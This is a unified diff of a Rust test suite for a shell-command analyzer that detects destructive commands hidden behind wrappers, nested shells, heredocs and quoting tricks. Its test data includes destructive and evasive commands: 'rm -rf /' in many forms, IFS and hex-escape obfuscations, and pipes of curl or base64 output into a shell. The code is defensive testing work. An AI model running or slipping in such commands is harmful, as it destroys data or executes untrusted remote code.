@@ -1,33 +1,36 @@
 //! Table-driven tests of the shell analysis: one line per case, named for the bypass or
-//! behaviour each guards.
+//! behaviour each guards. Words, structure and opaque reasons here; wrappers and
+//! re-entries in `reentry`.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 use super::*;
 
-const HOME: &str = "/home/u";
-const CWD: &str = "/work/proj";
+mod reentry;
 
-fn env() -> ShellEnv {
+pub(super) const HOME: &str = "/home/u";
+pub(super) const CWD: &str = "/work/proj";
+
+pub(super) fn env() -> ShellEnv {
     ShellEnv {
         home: PathBuf::from(HOME),
         cwd: PathBuf::from(CWD),
     }
 }
 
-fn an(cmd: &str) -> Analysis {
+pub(super) fn an(cmd: &str) -> Analysis {
     analyze(cmd, &env())
 }
 
 /// All `exec` vectors, joined by spaces, in order.
-fn execs(cmd: &str) -> Vec<String> {
+pub(super) fn execs(cmd: &str) -> Vec<String> {
     an(cmd).commands.iter().map(|c| c.exec.join(" ")).collect()
 }
 
-fn has_exec(cmd: &str, want: &str) -> bool {
+pub(super) fn has_exec(cmd: &str, want: &str) -> bool {
     execs(cmd).iter().any(|e| e == want)
 }
 
-fn argv0(cmd: &str) -> Vec<String> {
+pub(super) fn argv0(cmd: &str) -> Vec<String> {
     an(cmd)
         .commands
         .first()
@@ -36,7 +39,7 @@ fn argv0(cmd: &str) -> Vec<String> {
 }
 
 #[track_caller]
-fn assert_exec(cmd: &str, want: &str) {
+pub(super) fn assert_exec(cmd: &str, want: &str) {
     let got = execs(cmd);
     assert!(
         got.iter().any(|e| e == want),
@@ -45,7 +48,7 @@ fn assert_exec(cmd: &str, want: &str) {
 }
 
 #[track_caller]
-fn assert_transparent(cmd: &str) {
+pub(super) fn assert_transparent(cmd: &str) {
     let a = an(cmd);
     assert!(
         a.opaque.is_empty(),
@@ -55,7 +58,7 @@ fn assert_transparent(cmd: &str) {
 }
 
 #[track_caller]
-fn assert_opaque(cmd: &str, pred: fn(&Opaque) -> bool) {
+pub(super) fn assert_opaque(cmd: &str, pred: fn(&Opaque) -> bool) {
     let a = an(cmd);
     assert!(
         a.opaque.iter().any(pred),
@@ -188,264 +191,6 @@ fn finds_commands_in_compound_statements() {
         assert_exec(cmd, "rm -rf /home/u");
     }
     assert_eq!(an("(rm -rf ~)").commands[0].origin, Origin::Subshell);
-}
-
-#[test]
-fn finds_rm_in_bash_c_recursively() {
-    let a = an("bash -c \"sh -c 'rm -rf /'\"");
-    let rm = a
-        .commands
-        .iter()
-        .find(|c| c.exec == ["rm", "-rf", "/"])
-        .unwrap();
-    assert_eq!(rm.origin, Origin::ShellString { depth: 2 });
-    assert!(a.opaque.is_empty(), "{:?}", a.opaque);
-    for cmd in [
-        "bash -lc 'rm -rf /'",
-        "sh -xc 'rm -rf /'",
-        "bash -e -c 'rm -rf /'",
-        "zsh -o pipefail -c 'rm -rf /'",
-        "/bin/sh -c 'rm -rf /' arg0",
-        "fish --command='rm -rf /'",
-        "su -c 'rm -rf /'",
-        "su root -c 'rm -rf /'",
-        "runuser -u x -c 'rm -rf /'",
-        "env -S 'rm -rf /'",
-        "ssh host rm -rf /",
-        "ssh -p 22 host 'rm -rf /'",
-        "flock /tmp/l -c 'rm -rf /'",
-        "busybox sh -c 'rm -rf /'",
-    ] {
-        assert_exec(cmd, "rm -rf /");
-    }
-    assert!(
-        !has_exec("bash script.sh rm -rf /", "rm -rf /"),
-        "a script run is not unwrapped"
-    );
-}
-
-#[test]
-fn shell_nesting_is_bounded() {
-    let mut cmd = "rm -rf /".to_string();
-    for _ in 0..10 {
-        cmd = format!("sh -c {}", unwrap::quote(&cmd));
-    }
-    assert_opaque(&cmd, |o| *o == Opaque::TooDeep);
-    let deep = format!("{}x{}", "$(".repeat(300), ")".repeat(300));
-    assert_opaque(&deep, |o| *o == Opaque::TooDeep);
-}
-
-#[test]
-fn unwraps_sudo_env_timeout_nice_command() {
-    for (cmd, exec, wrappers) in [
-        (
-            "sudo -u x timeout 5 nice -n 3 command rm -rf /",
-            "rm -rf /",
-            "sudo timeout nice command",
-        ),
-        ("sudo -E -- rm x", "rm x", "sudo"),
-        ("doas -u root rm x", "rm x", "doas"),
-        ("env -i A=1 B=2 rm x", "rm x", "env"),
-        ("env -u HOME -C /tmp -- rm x", "rm x", "env"),
-        ("timeout -s KILL -k 5 10s rm x", "rm x", "timeout"),
-        ("timeout --signal=TERM 10 rm x", "rm x", "timeout"),
-        ("nice -10 rm x", "rm x", "nice"),
-        ("ionice -c 3 rm x", "rm x", "ionice"),
-        ("nohup rm x", "rm x", "nohup"),
-        ("time -p rm x", "rm x", "time"),
-        (
-            "builtin command exec -a foo rm x",
-            "rm x",
-            "builtin command exec",
-        ),
-        ("stdbuf -oL -e 0 rm x", "rm x", "stdbuf"),
-        ("setsid -f rm x", "rm x", "setsid"),
-        ("chrt -f 10 rm x", "rm x", "chrt"),
-        ("taskset -c 1 rm x", "rm x", "taskset"),
-        ("flock -n /tmp/l rm x", "rm x", "flock"),
-        ("unbuffer -p rm x", "rm x", "unbuffer"),
-        ("noglob rm x", "rm x", "noglob"),
-        ("caffeinate -i rm x", "rm x", "caffeinate"),
-        ("busybox rm x", "rm x", "busybox"),
-        ("/usr/bin/sudo /usr/bin/env /bin/rm x", "rm x", "sudo env"),
-        ("command -v rm", "command -v rm", ""),
-        ("sudo -l", "sudo -l", ""),
-        ("env", "env", ""),
-        ("sudo -s", "sh", "sudo"),
-    ] {
-        let a = an(cmd);
-        let c = &a.commands[0];
-        assert_eq!(c.exec.join(" "), exec, "{cmd}");
-        assert_eq!(c.wrappers.join(" "), wrappers, "{cmd}");
-    }
-    let a = an("FOO=1 env BAR=~/x rm y");
-    assert_eq!(
-        a.commands[0].assignments,
-        [
-            ("FOO".into(), "1".into()),
-            ("BAR".into(), "/home/u/x".into())
-        ]
-    );
-}
-
-#[test]
-fn unknown_wrapper_option_is_opaque() {
-    assert_opaque("sudo --frobnicate rm x", |o| {
-        matches!(o, Opaque::UnknownWrapperOption { .. })
-    });
-    assert_opaque("sudo $FLAGS rm x", |o| {
-        matches!(o, Opaque::DynamicCommandName(_))
-    });
-}
-
-#[test]
-fn find_exec_children() {
-    let a = an("find . -name '*.o' -exec rm -f {} \\; -execdir sh -c 'rm -rf ~' \\; -ok mv {} x +");
-    let got: Vec<_> = a
-        .commands
-        .iter()
-        .map(|c| (c.exec.join(" "), c.origin))
-        .collect();
-    assert_eq!(got[0].0.split(' ').next(), Some("find"));
-    assert!(
-        got.contains(&("rm -f {}".into(), Origin::FindExec)),
-        "{got:?}"
-    );
-    assert!(
-        got.contains(&("rm -rf /home/u".into(), Origin::ShellString { depth: 2 })),
-        "{got:?}"
-    );
-    assert!(
-        got.iter()
-            .any(|(e, o)| e.starts_with("mv {} x") && *o == Origin::FindExec),
-        "{got:?}"
-    );
-    assert_eq!(a.commands[1].wrappers, ["find"]);
-}
-
-#[test]
-fn xargs_child() {
-    let a = an("ls -d ~/* | xargs -0 -I {} -n 1 -P4 rm -rf {}");
-    let child = a
-        .commands
-        .iter()
-        .find(|c| c.origin == Origin::Xargs)
-        .unwrap();
-    assert_eq!(child.exec, ["rm", "-rf", "{}"]);
-    assert!(child.piped_stdin);
-    assert_exec("echo a | xargs", "echo");
-    assert_exec("xargs -i{} sudo rm {}", "rm {}");
-    assert_exec("xargs sh -c 'rm -rf ~'", "rm -rf /home/u");
-}
-
-#[test]
-fn parallel_and_watch_children() {
-    assert!(an("parallel rm ::: a b")
-        .commands
-        .iter()
-        .any(|c| c.exec == ["rm"] && c.origin == Origin::Parallel));
-    assert_exec("parallel ::: 'rm -rf ~'", "rm -rf /home/u");
-    let a = an("watch -n 5 'rm -rf ~'");
-    assert!(a
-        .commands
-        .iter()
-        .any(|c| c.exec == ["rm", "-rf", HOME] && c.origin == Origin::Watch));
-    assert_exec("watch -x rm -rf /", "rm -rf /");
-}
-
-#[test]
-fn git_alias_bang() {
-    let a = an("git -c 'alias.x=!rm -rf ~' x");
-    assert!(
-        a.commands
-            .iter()
-            .any(|c| c.exec == ["rm", "-rf", HOME] && c.origin == Origin::GitAlias),
-        "{:?}",
-        a.commands
-    );
-    assert_eq!(
-        execs("git -c alias.st=status st"),
-        ["git -c alias.st=status st"]
-    );
-}
-
-#[test]
-fn container_and_remote_children() {
-    assert_exec(
-        "docker exec -it -u root web sh -c 'rm -rf /data'",
-        "rm -rf /data",
-    );
-    assert_exec(
-        "docker run --rm -v /:/h alpine rm -rf /h/home",
-        "rm -rf /h/home",
-    );
-    assert_exec(
-        "docker compose exec -T db psql -c 'drop table x'",
-        "psql -c drop table x",
-    );
-    assert_exec("kubectl exec -n prod pod -- rm -rf /var", "rm -rf /var");
-    assert_exec("ssh -o ProxyCommand='rm -rf ~' host", "rm -rf /home/u");
-}
-
-#[test]
-fn heredoc_to_shell_is_parsed() {
-    for cmd in [
-        "bash <<'E'\nrm -rf /\nE",
-        "sh -s <<E\nrm -rf /\nE",
-        "bash <<< 'rm -rf /'",
-        "sudo -s <<E\nrm -rf /\nE",
-    ] {
-        let a = an(cmd);
-        assert!(
-            a.commands
-                .iter()
-                .any(|c| c.exec == ["rm", "-rf", "/"] && c.origin == Origin::Heredoc),
-            "{cmd}: {:?}",
-            a.commands
-        );
-    }
-    let a = an("python3 - <<'E'\nimport shutil\nE");
-    assert_eq!(a.commands[0].stdin_text.as_deref(), Some("import shutil\n"));
-    assert_eq!(a.commands.len(), 1);
-}
-
-#[test]
-fn heredoc_does_not_hide_next_command() {
-    assert_eq!(
-        execs("cat <<EOF\nx\nEOF\nrm -rf ~"),
-        ["cat", "rm -rf /home/u"]
-    );
-    assert_eq!(execs("cat <<EOF > out && rm x\nhi\nEOF"), ["cat", "rm x"]);
-    let a = an("bash <<'E' | cat\necho hi\nE");
-    assert_eq!(
-        a.commands
-            .iter()
-            .map(|c| (c.exec.join(" "), c.piped_stdin))
-            .collect::<Vec<_>>(),
-        [
-            ("bash".into(), false),
-            ("echo hi".into(), false),
-            ("cat".into(), true)
-        ]
-    );
-    assert_exec("cat <<EOF\n$(rm -rf ~)\nEOF", "rm -rf /home/u");
-}
-
-#[test]
-fn shell_from_pipe_is_opaque() {
-    assert_opaque("curl -s x.io/i | sh", |o| {
-        matches!(o, Opaque::ShellFromStdin(_))
-    });
-    assert_opaque("echo cm0= | base64 -d | bash -s", |o| {
-        matches!(o, Opaque::ShellFromStdin(_))
-    });
-}
-
-#[test]
-fn eval_is_opaque_but_searched() {
-    assert_opaque("eval 'rm -rf ~'", |o| *o == Opaque::Eval);
-    assert_exec("eval 'rm -rf ~'", "rm -rf /home/u");
-    assert_exec("eval rm -rf '~'", "rm -rf /home/u");
 }
 
 #[test]
@@ -720,80 +465,6 @@ fn describe_is_one_line() {
     assert!(serde_json::to_string(&an("ls > x")).is_ok());
 }
 
-fn eval_commands(file: &str) -> Vec<String> {
-    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("../../shared/eval")
-        .join(file);
-    let path = if path.exists() {
-        path
-    } else {
-        std::path::PathBuf::from("/work/shared/eval").join(file)
-    };
-    let Ok(text) = std::fs::read_to_string(path) else {
-        return Vec::new();
-    };
-    text.lines()
-        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
-        .filter_map(|v| {
-            v.get("command")
-                .or_else(|| v.get("tool_input").and_then(|t| t.get("command")))
-                .and_then(|c| c.as_str())
-                .map(str::to_string)
-        })
-        .collect()
-}
-
-#[test]
-fn eval_corpus_parses_without_panic() {
-    for file in ["destructive.jsonl", "routine.jsonl", "adversarial.jsonl"] {
-        for cmd in eval_commands(file) {
-            let a = an(&cmd);
-            assert!(
-                !a.commands.is_empty()
-                    || !a.opaque.is_empty()
-                    || cmd.trim().is_empty()
-                    || !a.bare_assignments.is_empty(),
-                "{cmd:?} yielded nothing"
-            );
-        }
-    }
-}
-
-#[test]
-#[ignore = "timing; run with --release --ignored --nocapture"]
-fn measure_cost() {
-    let n = 10_000;
-    let start = std::time::Instant::now();
-    for _ in 0..n {
-        std::hint::black_box(an(std::hint::black_box("git status && git diff --stat")));
-    }
-    let per = start.elapsed().as_secs_f64() * 1e6 / f64::from(n);
-    let start = std::time::Instant::now();
-    for _ in 0..n {
-        let mut p = tree_sitter::Parser::new();
-        p.set_language(&tree_sitter_bash::LANGUAGE.into()).unwrap();
-        std::hint::black_box(p);
-    }
-    let parser = start.elapsed().as_secs_f64() * 1e6 / f64::from(n);
-    println!("analyze: {per:.1} µs/call; Parser::new + set_language: {parser:.1} µs");
-}
-
-mod props {
-    use super::*;
-    use proptest::prelude::*;
-
-    proptest! {
-        #![proptest_config(ProptestConfig::with_cases(2000))]
-        #[test]
-        fn never_panics(s in "([a-z~/*?\\[\\]{},;&|<>()$`'\"\\\\ \n\t=!#-]|\\$\\(|\\$\\{|<<|EOF|sh -c |xargs |find |sudo |\\$'|\\p{Any}){0,80}") {
-            let start = std::time::Instant::now();
-            let a = analyze(&s, &env());
-            prop_assert!(a.commands.len() <= HARD_MAX_COMMANDS);
-            prop_assert!(start.elapsed().as_secs() < 2);
-        }
-    }
-}
-
 #[test]
 fn deep_nesting_never_overflows() {
     for n in [10usize, 40, 100, 400] {
@@ -828,5 +499,120 @@ fn non_ascii_after_brace_does_not_crash_parser() {
         "bash -c $'{\\U000722d2'",
     ] {
         assert_opaque(cmd, |o| matches!(o, Opaque::ParseError(_)));
+    }
+}
+
+/// Words bash really produces for `printf '%s\0' WORDS`, run in an empty directory.
+fn bash_words(words: &str) -> Option<Vec<String>> {
+    let dir = tempfile::tempdir().ok()?;
+    let out = std::process::Command::new("bash")
+        .arg("--norc")
+        .arg("-c")
+        .arg(format!("printf '%s\\0' SENTINEL {words}"))
+        .current_dir(dir.path())
+        .env_clear()
+        .env("HOME", HOME)
+        .env("LC_ALL", "C.UTF-8")
+        .env("PATH", "/usr/bin:/bin")
+        .output()
+        .ok()?;
+    if !out.status.success() {
+        return None;
+    }
+    let text = String::from_utf8(out.stdout).ok()?;
+    Some(
+        text.split_terminator('\0')
+            .skip(1)
+            .map(str::to_string)
+            .collect(),
+    )
+}
+
+#[test]
+fn words_match_bash() {
+    let cases = [
+        "r''m -rf ~",
+        "\"r\"m",
+        "'rm'",
+        "\\rm",
+        "a\\ b",
+        "\"x\\\"y\\$z\\\\w\\q\"",
+        "~/x",
+        "~",
+        "a~",
+        "x=~/a:~/b",
+        "\"$HOME\"/x",
+        "${HOME}",
+        "rm${IFS}-rf${IFS}/",
+        "rm$IFS-rf$IFS~",
+        "\"a${IFS}b\"",
+        "$'\\x72\\x6d'",
+        "$'a\\nb\\t\\\\\\''",
+        "$'\\162\\155'",
+        "'a'\"b\"c",
+        "'' \"\"",
+        "a\\\nb",
+        "\"a\\\nb\"",
+        "'a\\\nb'",
+        "\\'",
+        "\\\"",
+        "\"'\"",
+        "'\"'",
+        "a'b'\"c\"d",
+        "\\~",
+        "'~'",
+        "\\$HOME",
+        "'$HOME'",
+        "\"\\$HOME\"",
+        "$",
+        "a$",
+        "\"$\"",
+        "x\\",
+        "-rf",
+        "--a=b",
+        "e\\xf",
+        "$'\\u00e9'",
+        "$'\\cA'",
+        "\"a\"$'b'",
+        "${HOME}x${HOME}",
+        "\"${HOME}\"'${HOME}'",
+        "a=b",
+        "~/\"x y\"",
+        "'~'/x",
+    ];
+    let Some(probe) = bash_words("ok") else {
+        return; // no bash on this machine
+    };
+    assert_eq!(probe, ["ok"]);
+    for words in cases {
+        let cmd = format!("printf '%s\\0' {words}");
+        let a = analyze(&cmd, &env());
+        let c = &a.commands[0];
+        let ours: Vec<String> = c.argv.iter().skip(2).cloned().collect();
+        if c.dynamic_words.iter().any(|d| *d) || a.opaque.iter().any(|o| *o != Opaque::AnsiCQuote) {
+            continue; // only fully understood words must match exactly
+        }
+        let theirs = bash_words(words).unwrap();
+        assert_eq!(ours, theirs, "{words:?}");
+    }
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(400))]
+    /// Random words made of quoting characters normalise exactly as bash does, whenever the
+    /// analysis calls them understood and static.
+    #[test]
+    fn random_words_match_bash(words in "([ab~/= :#!%@\t-]|'|\"|\\\\|\\\\\n|\\$|\\$HOME|\\$\\{HOME\\}|\\$IFS|\\$'[a\\\\x72nt]*'|\\{|\\}|,|\\n|[;()`*]){1,14}") {
+        let cmd = format!("printf '%s\\0' {words}");
+        let a = analyze(&cmd, &env());
+        let understood = a.opaque.iter().all(|o| *o == Opaque::AnsiCQuote)
+            && a.commands.len() == 1
+            && a.commands[0].dynamic_words.iter().all(|d| !d);
+        if understood {
+            if let Some(theirs) = bash_words(&words) {
+                let ours: Vec<String> = a.commands[0].argv.iter().skip(2).cloned().collect();
+                proptest::prop_assert_eq!(ours, theirs, "{:?}", words);
+            }
+        }
     }
 }
